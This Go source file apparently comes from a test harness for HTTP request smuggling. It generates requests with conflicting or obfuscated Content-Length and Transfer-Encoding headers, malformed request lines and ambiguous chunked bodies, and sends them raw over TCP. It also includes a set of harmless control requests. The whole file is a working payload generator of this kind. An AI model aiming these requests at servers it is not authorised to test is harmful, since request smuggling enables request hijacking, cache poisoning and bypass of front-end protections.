// Package forged makes requests that hold another request, and whose head or body can be read in two ways: by one
// of them, the other request begins where the first one ends.
package forged

import (
	"bufio"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strconv"
	"strings"
	"time"
)

// Shape is a way to write such a request.
type Shape struct {
	Name string
	// Line replaces the version of the request line, empty for HTTP/1.1, and Target is appended to the target.
	Line, Target string
	// First, Middle and Last are lines at these places of the head. {all} in them stands for the length of the
	// whole body, {part} for that of Body.
	First, Middle, Last string
	// NoHost leaves the line of the host out.
	NoHost bool
	// Body is the part of the body before the other request, After what follows that one.
	Body, After string
}

// Text returns a request of a shape. start is the method and the target, fields are lines of the head without that
// of the host, and inner is the other request.
func (s Shape) Text(start, host, fields, inner string) string {
	line := s.Line
	if line == "" {
		line = " HTTP/1.1\r\n"
	}
	body := s.Body + inner + s.After
	lengths := strings.NewReplacer("{all}", strconv.Itoa(len(body)), "{part}", strconv.Itoa(len(s.Body)))
	if !s.NoHost {
		host = "Host: " + host + "\r\n"
	} else {
		host = ""
	}
	return start + s.Target + line + lengths.Replace(s.First) + host + lengths.Replace(s.Middle) + fields + lengths.Replace(s.Last) + "\r\n" + body
}

const (
	all     = "Content-Length: {all}\r\n"
	part    = "Content-Length: {part}\r\n"
	chunked = "Transfer-Encoding: chunked\r\n"
	// chunks is a body whose end is that of a body in chunks.
	chunks = "5\r\nhello\r\n0\r\n\r\n"
	hello  = "hello"
)

// Heads returns the shapes whose head states no end, or several.
func Heads() []Shape {
	var out []Shape
	// pairs are two lines in each order and at each pair of places.
	pairs := func(name, first, second, body string) {
		for i, p := range [][2]string{{first, second}, {second, first}} {
			out = append(out,
				Shape{Name: fmt.Sprintf("%s %d first", name, i), First: p[0] + p[1], Body: body},
				Shape{Name: fmt.Sprintf("%s %d middle", name, i), Middle: p[0] + p[1], Body: body},
				Shape{Name: fmt.Sprintf("%s %d last", name, i), Last: p[0] + p[1], Body: body},
				Shape{Name: fmt.Sprintf("%s %d around", name, i), First: p[0], Last: p[1], Body: body},
			)
		}
	}
	pairs("chunks beside a length", chunked, all, chunks)
	pairs("chunks beside a length, in another case", "tRANSFER-eNCODING: Chunked\r\n", "CONTENT-LENGTH: {all}\r\n", chunks)
	pairs("two lengths", all, part, hello)
	pairs("two lengths, the second in another case", all, "content-length: {part}\r\n", hello)
	pairs("equal lengths", part, part, hello)
	for _, value := range []string{
		"gzip, chunked", "chunked, gzip", "identity", "chunked, identity", "chunked, chunked", "xchunked", "chunkedx", "\"chunked\"", "chunked;q=1", "chunked,", ",chunked",
		"gzip", "", "\x0bchunked", "chunked\x00", "chunked\r", "\tchunked", "chunked \t",
	} {
		encoding := "Transfer-Encoding: " + value + "\r\n"
		out = append(out,
			Shape{Name: fmt.Sprintf("coding %q beside a length", value), First: encoding, Last: all, Body: chunks},
			Shape{Name: fmt.Sprintf("coding %q", value), Middle: encoding, Body: chunks},
		)
	}
	for _, line := range []string{
		"Transfer-Encoding : chunked\r\n", "Transfer-Encoding\t: chunked\r\n", " Transfer-Encoding: chunked\r\n", "X: y\r\n Transfer-Encoding: chunked\r\n", "Transfer-Encoding:\r\n chunked\r\n",
		"Transfer-Encoding:\r\n\tchunked\r\n", "X: y\nTransfer-Encoding: chunked\r\n", "X: y\rTransfer-Encoding: chunked\r\n", "Transfer-Encoding: chunked\n", "Transfer-Encoding: chunked\r\r\n",
		"Transfer\x00-Encoding: chunked\r\n", "Transfer-Encoding\x00: chunked\r\n", "\x00Transfer-Encoding: chunked\r\n", "X: y\x00\r\nTransfer-Encoding: chunked\r\n",
		"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n", "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n", "Transfer-Encoding\r\n", ": chunked\r\n",
	} {
		out = append(out,
			Shape{Name: fmt.Sprintf("line %q beside a length", line), Middle: line, Last: all, Body: chunks},
			Shape{Name: fmt.Sprintf("line %q before all others", line), First: line, Last: all, Body: chunks},
		)
	}
	for _, value := range []string{"+{part}", "-{part}", "{part}, {part}", "{part}, {all}", "0x5", "{part}.0", "{part} {all}", "{part}\x0b", "", "99999999999999999999", "18446744073709551621", "\"{part}\"", "{part};", "5_0", "٥", "\t{part}", "{part}\t"} {
		out = append(out, Shape{Name: fmt.Sprintf("length %q", value), Middle: "Content-Length: " + value + "\r\n", Body: hello})
	}
	for _, line := range []string{"Content-Length : {part}\r\n", "Content-Length\t: {part}\r\n", " Content-Length: {part}\r\n", "Content-Length:\r\n {part}\r\n", "Content-Length: {part}\n", "Content\x00-Length: {part}\r\n"} {
		out = append(out, Shape{Name: fmt.Sprintf("line %q", line), Middle: line, Body: hello})
	}
	out = append(out,
		Shape{Name: "chunks in HTTP/1.0", Line: " HTTP/1.0\r\n", Middle: chunked, Body: chunks},
		Shape{Name: "chunks beside a length in HTTP/1.0", Line: " HTTP/1.0\r\nConnection: keep-alive\r\n", Middle: chunked, Last: all, Body: chunks},
	)
	return append(out, lines()...)
}

// lines returns shapes whose request line, host or options can be read in two ways.
func lines() []Shape {
	var out []Shape
	for _, line := range []string{
		" HTTP/1.1 \r\n", " HTTP/1.1 x\r\n", "  HTTP/1.1\r\n", "\tHTTP/1.1\r\n", " HTTP/1.2\r\n", " HTTP/2.0\r\n", " HTTP/0.9\r\n", " http/1.1\r\n", " HTTP/1.1\r\r\n", " HTTP/1.1\n", "\r\n", " \r\n", " HTTP/11\r\n",
	} {
		out = append(out, Shape{Name: fmt.Sprintf("request line with %q", line), Line: line, Middle: part, Body: hello})
	}
	for _, target := range []string{" x", "\tx", "\x00", "\x7f", "\r", "#x", "\x0b"} {
		out = append(out, Shape{Name: fmt.Sprintf("target with %q", target), Target: target, Middle: part, Body: hello})
	}
	for _, host := range []string{"Host: other\r\n", "host: h\r\n", "Host : other\r\n", "Host: a b\r\n", "Host:\th\r\n", "Host: user@h\r\n"} {
		out = append(out, Shape{Name: fmt.Sprintf("host %q besides", host), First: host, Last: part, Body: hello})
	}
	out = append(out, Shape{Name: "no host", NoHost: true, Middle: part, Body: hello})
	for _, option := range []string{"Content-Length", "transfer-encoding", "close, Host"} {
		out = append(out, Shape{Name: fmt.Sprintf("option %q of Connection", option), First: "Connection: " + option + "\r\n", Last: part, Body: hello})
	}
	return append(out, Shape{Name: "Expect in HTTP/1.0", Line: " HTTP/1.0\r\n", First: "Expect: 100-continue\r\n", Last: part, Body: hello})
}

// Bodies returns the shapes whose body in chunks can be read in two ways.
func Bodies() []Shape {
	var out []Shape
	for _, body := range []string{
		"5 \r\nhello\r\n0\r\n\r\n", "5\t\r\nhello\r\n0\r\n\r\n", " 5\r\nhello\r\n0\r\n\r\n", "+5\r\nhello\r\n0\r\n\r\n", "-5\r\nhello\r\n0\r\n\r\n", "0x5\r\nhello\r\n0\r\n\r\n", "5h\r\nhello\r\n0\r\n\r\n",
		"5;x=y\r\nhello\r\n0\r\n\r\n", "5;\r\nhello\r\n0\r\n\r\n", "5;x\nhello\r\n0\r\n\r\n", "5\nhello\r\n0\r\n\r\n", "5\rhello\r\n0\r\n\r\n", "5\r\nhello0\r\n\r\n", "5\r\nhello\n0\r\n\r\n", "5\r\nhello\r0\r\n\r\n", "5\r\nhello!!\r\n0\r\n\r\n",
		"10000000000000005\r\nhello\r\n0\r\n\r\n", "fffffffffffffffb\r\nhello\r\n0\r\n\r\n", "\r\nhello\r\n0\r\n\r\n", "٥\r\nhello\r\n0\r\n\r\n", "5_0\r\nhello\r\n0\r\n\r\n",
		"5\r\nhello\r\n0\n\r\n", "5\r\nhello\r\n0 \r\n\r\n", "5\r\nhello\r\n0;\r\n\r\n", "5\r\nhello\r\n0\r\n\n",
		"5\r\nhello\r\n0\r\nX\r\n\r\n", "5\r\nhello\r\n0\r\n X: y\r\n\r\n", "5\r\nhello\r\n0\r\nX : y\r\n\r\n", "5\r\nhello\r\n0\r\nX: \x00\r\n\r\n", "5\r\nhello\r\n0\r\nX: y\n\r\n", "5\r\nhello\r\n0\r\nX: y\r\n z\r\n\r\n",
		"5\r\nhello\r\n0\r\nContent-Length: 5\r\n\r\n", "5\r\nhello\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n", "5\r\nhello\r\n0\r\nhost: x\r\n\r\n",
	} {
		out = append(out, Shape{Name: fmt.Sprintf("chunks %q", body), Middle: chunked, Body: body})
	}
	return out
}

// Sound returns shapes that are only unusual, or hold the other request in their body.
func Sound() []Shape {
	return []Shape{
		{Name: "length", Last: all},
		{Name: "length first, in another case", First: "content-length:{all}\r\n"},
		{Name: "length with blanks and zeros", Middle: "Content-Length:   000{all}  \r\n"},
		{Name: "value with bytes over 0x7f", First: "X-Odd: caf\xe9\r\n", Last: all},
		{Name: "empty value", First: "X-Odd:\r\n", Last: all},
		{Name: "two lines of a field", First: "X-Odd: 1\r\nX-Odd: 2\r\n", Last: all},
		{Name: "options of Connection", First: "Connection: keep-alive, X-Odd\r\nConnection: X-Other\r\nX-Odd: 1\r\nX-Other: 1\r\n", Last: all},
		{Name: "names that only resemble others", First: "X-Content-Length: 1\r\nContent-Lengths: 2\r\nTransfer: x\r\nTransfer-Encodings: chunked\r\n", Last: all},
		{Name: "coding of the content", First: "Content-Encoding: gzip\r\n", Last: all},
		{Name: "coding that is asked for", First: "TE: trailers\r\n", Last: all},
		{Name: "HTTP/1.0", Line: " HTTP/1.0\r\n", Last: all},
		{Name: "unusual target", Target: "/a//b/../%2e%2E/%00\xc3\xa9{\"|}?x=http://other/?&y=%0d%0a", Last: all},
	}
}

// Answer is an answer as a caller reads it.
type Answer struct {
	Status int
	Body   string
}

// Send sends bytes on a new connection and returns the answers, and whether the host has ended the connection. It
// waits for the first answer for patience, and for each further one for a time of its own.
func Send(address, text string, patience, further time.Duration) (answers []Answer, ended bool, err error) {
	c, err := net.Dial("tcp", address)
	if err != nil {
		return nil, false, fmt.Errorf("send request: %w", err)
	}
	defer func() { _ = c.Close() }()
	if _, err := io.WriteString(c, text); err != nil {
		return nil, false, fmt.Errorf("send request: %w", err)
	}
	for r := bufio.NewReader(c); ; patience = further {
		_ = c.SetReadDeadline(time.Now().Add(patience))
		resp, err := http.ReadResponse(r, nil)
		if err != nil {
			return answers, errors.Is(err, io.EOF) || errors.Is(err, io.ErrUnexpectedEOF), nil
		}
		body, err := io.ReadAll(resp.Body)
		_ = resp.Body.Close()
		if err != nil {
			return answers, false, fmt.Errorf("read answer: %w", err)
		}
		answers = append(answers, Answer{Status: resp.StatusCode, Body: string(body)})
	}
}
